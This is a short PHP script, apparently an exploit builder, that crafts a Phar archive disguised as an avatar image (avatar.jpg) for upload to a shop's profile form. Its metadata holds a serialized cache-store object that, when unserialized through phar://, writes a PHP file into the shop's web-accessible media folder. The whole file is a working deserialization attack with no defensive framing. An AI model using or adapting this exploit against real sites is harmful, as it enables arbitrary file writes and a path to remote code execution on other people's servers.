<?php
// builds the "avatar" for the profile form: the shop's cache store writes its buffer to
// its path when PHP destroys it, and phar:// on the upload unserializes it
$store = new \Shop\Cache\FileStore();
$store->path = '/var/www/shop/media/pic.php';
$store->buffer = 'data';

$p = new \Phar(__DIR__ . '/avatar.phar');
$p->startBuffering();
$p->setStub('<?php __HALT_COMPILER(); ?>');
$p->addFromString('a.txt', 'a');
$p->setMetadata($store);
$p->stopBuffering();
rename(__DIR__ . '/avatar.phar', __DIR__ . '/avatar.jpg');
